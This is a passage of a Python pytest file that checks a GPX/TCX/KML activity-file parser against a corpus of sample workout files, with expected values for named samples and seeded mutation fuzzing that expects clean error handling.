    files = {f"{p.parent.name}/{p.name}" for folder in ("gpx", "tcx", "kml") for p in (CORPUS / folder).iterdir()}
    files |= {f"bad/{p.name}" for p in (CORPUS / "bad").iterdir() if p.suffix in (".gpx", ".tcx", ".kml")}
    assert files == set(PARSES) | set(REFUSED)


def _utc(text: str) -> float:
    return datetime.fromisoformat(text).replace(tzinfo=UTC).timestamp()


def _reference_times(path: Path) -> list[float]:
    """Distinct plausible trackpoint times, by plain ElementTree and datetime (OpenTracks markers left out)."""
    root = ET.parse(path).getroot()
    found: set[float] = set()
    for element in root.iter():
        local = element.tag.rpartition("}")[2]
        if local not in ("trkpt", "Trackpoint") or element.get("lat") in ("100", "200"):
            continue
        for child in element:
            if child.tag.rpartition("}")[2] in ("time", "Time") and child.text:
                moment = datetime.fromisoformat(child.text.strip()).timestamp()
                if 946684800 <= moment <= time.time() + 86400:
                    found.add(moment)
    return sorted(found)


@pytest.mark.parametrize("name", sorted(PARSES))
def test_corpus_file_parses(name: str) -> None:
    points, rows, with_hr, with_gps, sport, pauses, first, last = PARSES[name]
    path = CORPUS / name
    data = path.read_bytes()
    # Given a real file, whose trackpoints ElementTree counts as the manifest says
    root = ET.fromstring(data)
    assert sum(1 for e in root.iter() if e.tag.rpartition("}")[2] in ("trkpt", "Trackpoint")) == points
    # When it goes through the entry point
    activity = parse(data, max_bytes=MAX)
    # Then it has one row per distinct plausible time, as a plain reference reading finds them
    reference = _reference_times(path)
    assert len(activity) == rows == len(reference)
    assert activity.time.tolist() == pytest.approx(reference, abs=1e-6)
    assert (activity.time[0], activity.time[-1]) == pytest.approx((_utc(first), _utc(last)), abs=1e-6)
    assert (finite(activity.heartrate), finite(activity.lat), activity.sport, len(activity.pauses)) == (
        with_hr,
        with_gps,
        sport,
        pauses,
    )
    _assert_well_formed(activity, name.rpartition(".")[2])


def _assert_well_formed(activity: ParsedActivity, fmt: str) -> None:
    assert activity.format == fmt
    n = len(activity)
    for column in ("lat", "lon", "altitude", "heartrate", "cadence", "watts", "temp", "distance", "speed"):
        values = getattr(activity, column)
        assert values.shape == (n,) and values.dtype == np.float64
    assert (np.diff(activity.time) > 0).all()
    assert np.array_equal(np.isfinite(activity.lat), np.isfinite(activity.lon))
    assert all(activity.time[0] <= a < b <= activity.time[-1] for a, b in activity.pauses)


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_corpus_file_refused(name: str) -> None:
    with pytest.raises(ActivityFileError) as caught:
        parse((CORPUS / name).read_bytes(), max_bytes=MAX)
    assert caught.value.message == REFUSED[name]


def test_corpus_details() -> None:
    strava = parse((CORPUS / "gpx/togeojson_strava.gpx").read_bytes(), max_bytes=MAX)
    assert strava.temp.tolist() == [22, 20, 21]  # atemp twice in one point: the later one
    assert strava.watts[0] == 75 and np.isnan(strava.watts[1:]).all()
    assert strava.heartrate.tolist() == [117, 154, 160]
    run = parse((CORPUS / "gpx/sportslib_strava-run-2017.gpx").read_bytes(), max_bytes=MAX)
    assert (run.name, run.sport, run.device_name) == ("Run avec Nico & Mag", "Run", "StravaGPX Android")
    friday = parse((CORPUS / "gpx/togeojson_friday-evening-run.gpx").read_bytes(), max_bytes=MAX)
    assert friday.pauses[0] == (_utc("2025-05-02T15:51:26.195"), _utc("2025-05-02T15:55:03"))
    assert friday.watts[:4].tolist() == [0, 0, 0, 170]
    movescount = parse((CORPUS / "gpx/gc_suunto-movescount-2014.gpx").read_bytes(), max_bytes=MAX)
    assert (movescount.temp[0], movescount.distance[2]) == (20.5, pytest.approx(13.0400512))
    biker = parse((CORPUS / "gpx/gc_urbanbiker-2019.gpx").read_bytes(), max_bytes=MAX)
    assert finite(biker.watts) > 2800 and finite(biker.speed) > 2800 and finite(biker.temp) > 2800
    stravalib = parse((CORPUS / "tcx/stravalib_sample.tcx").read_bytes(), max_bytes=MAX)
    assert len(stravalib.laps) == 2 and stravalib.device_name == "EDGE705"
    assert stravalib.sessions[0].total_timer_time == pytest.approx(18.64 + stravalib.laps[1].total_timer_time)
    garmin = parse((CORPUS / "tcx/togeojson_garmin_connect.tcx").read_bytes(), max_bytes=MAX)
    assert (garmin.watts[0], garmin.speed[0], garmin.cadence[0]) == (160, pytest.approx(4.441), 63)
    multi = parse((CORPUS / "tcx/gc_multi-session.tcx").read_bytes(), max_bytes=MAX)
    assert [s.sport for s in multi.sessions] == ["Run", "Ride", "Run", "Ride"]
    assert multi.device_name == "Forerunner305"
    fr15 = parse((CORPUS / "tcx/gc_10k-garmin-fr15.tcx").read_bytes(), max_bytes=MAX)
    assert len(fr15.laps) == 11 and fr15.laps[0].start_time == _utc("2014-10-11T18:08:45")


# ---------------------------------------------------------------- fuzzing

FUZZ_FILES = [
    "gpx/togeojson_friday-evening-run.gpx",
    "gpx/togeojson_strava.gpx",
    "gpx/opentracks_pause_resume.gpx",
    "gpx/gpsbabel_subsecond.gpx",
    "gpx/togeojson_missing_hr.gpx",
    "tcx/gc_fr910xt-swim.tcx",
    "bad/togeojson_bad.tcx",
    "bad/togeojson_bad.gpx",
    "kml/opentracks_order_location_and_when.kml",
]


def _mutants(data: bytes, rng: random.Random, count: int) -> list[bytes]:
    out = []
    for i in range(count):
        if i % 3 == 0:
            out.append(data[: rng.randrange(len(data))])
        else:
            buf = bytearray(data)
            for _ in range(rng.randint(1, 8)):
                where = rng.randrange(len(buf))
                buf[where] = rng.choice([rng.randrange(256), *b'<>/&"=:;0-9.\x00'])
            out.append(bytes(buf))
    return out


@pytest.mark.parametrize("name", FUZZ_FILES)
def test_fuzzed_files_only_ever_raise_activity_file_error(name: str) -> None:
    rng = random.Random(f"stride-{name}")  # seeded: the same cases every run
    data = (CORPUS / name).read_bytes()
    for mutant in _mutants(data, rng, 60):
        try:
            activity = parse(mutant, "gpx", max_bytes=MAX)
        except ActivityFileError as err:
            assert err.message
        else:
            assert activity.format in ("gpx", "tcx")
            assert (np.diff(activity.time) > 0).all()
